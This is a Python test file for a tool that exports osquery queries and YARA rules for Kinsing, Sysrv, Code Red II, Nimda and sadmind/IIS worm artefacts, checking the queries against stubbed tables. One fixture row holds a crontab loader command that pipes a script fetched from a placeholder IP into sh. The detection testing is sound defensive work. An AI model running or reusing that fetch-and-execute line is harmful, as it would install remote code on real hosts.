import json
import sqlite3
from pathlib import Path

import pytest
import yara  # type: ignore[import-not-found]

from codered.export.indicators.osquery import make_osquery
from tests.fixtures.asked_requests import shipped

TABLES: dict[str, list[str]] = json.loads(Path("tests/fixtures/osquery_tables.json").read_text())


@pytest.fixture
def tables() -> sqlite3.Connection:
    """Stubs of osquery's tables with the columns that its specifications list."""
    made = sqlite3.connect(":memory:")
    for name, columns in TABLES.items():
        made.execute(f"CREATE TABLE {name} ({', '.join(columns)})")
    return made


def fill(tables: sqlite3.Connection, table: str, **row: object) -> None:
    values = ", ".join("?" * len(row))
    tables.execute(f"INSERT INTO {table} ({', '.join(row)}) VALUES ({values})", list(row.values()))


def test_every_query_runs_and_finds_what_it_is_for(tables: sqlite3.Connection) -> None:
    made = make_osquery(shipped())
    queries = json.loads(made.files[0].data)["queries"]
    assert all(tables.execute(query["query"]).fetchall() == [] for query in queries.values())
    for place in ("/tmp/kinsing", "/tmp/sysrv017", "/home/kinsing"):
        fill(tables, "file", path=place, type="regular", size=1)
    fill(
        tables, "yara", path="/tmp/kinsing", sigfile="/etc/osquery/codered/kinsing.yar", matches="x,kinsing_is_program"
    )
    fill(tables, "yara", path="/tmp/sysrv017", sigfile="/etc/osquery/codered/sysrv.yar", matches="sysrv_is_program_2")
    fill(tables, "file", path=r"D:\inetpub\scripts\root.exe", type="regular", size=1)
    fill(tables, "file", path=r"C:\winnt\mmc.exe", type="regular", size=1)
    fill(tables, "processes", pid=1, parent=0, name="inetinfo.exe", path=r"C:\x", cmdline="", threads=300)
    fill(tables, "processes", pid=2, parent=1, name="TFTP.EXE", path="", cmdline="", threads=1)
    fill(tables, "processes", pid=3, parent=0, name="sh", path="/bin/sh", cmdline="sh /dev/cuc/x.sh", threads=1)
    fill(tables, "listening_ports", pid=3, port=600)
    fill(tables, "crontab", path="/etc/crontab", command="curl http://192.0.2.1/ldr.sh | sh")
    fill(tables, "winbaseobj", object_name="CodeRedII")
    found = {name for name, query in queries.items() if tables.execute(query["query"]).fetchall()}
    assert found == {
        "kinsing_file_program", "codered2_file_root_exe", "codered2_process_inetinfo_threads", "codered2_process_atom",
        "nimda_process_web_server_children", "sadmind_iis_process_worm_script_runs", "sadmind_iis_process_root_shell",
        "sysrv_autostart_cron_loader",
    }  # fmt: skip


def test_it_says_that_no_engine_has_seen_it_and_its_rules_compile() -> None:
    made = make_osquery(shipped())
    document = json.loads(made.files[0].data)
    assert "NOT VALIDATED" in document["description"]
    assert document["queries"]["codered2_file_root_exe"]["platform"] == "windows"
    assert all(set(query) >= {"query", "interval", "description", "value"} for query in document["queries"].values())
    rules = {file.name: file.data.decode() for file in made.files[1:]}
    assert "kinsing.yar" in rules
    for text in rules.values():
        assert "NOT VALIDATED" in text
        yara.compile(source=text)
    assert {left.sign for left in made.left_out} >= {"nimda/readme-exe", "codered/ida-n", "codered2/metabase-c"}
    assert make_osquery(()).files == ()
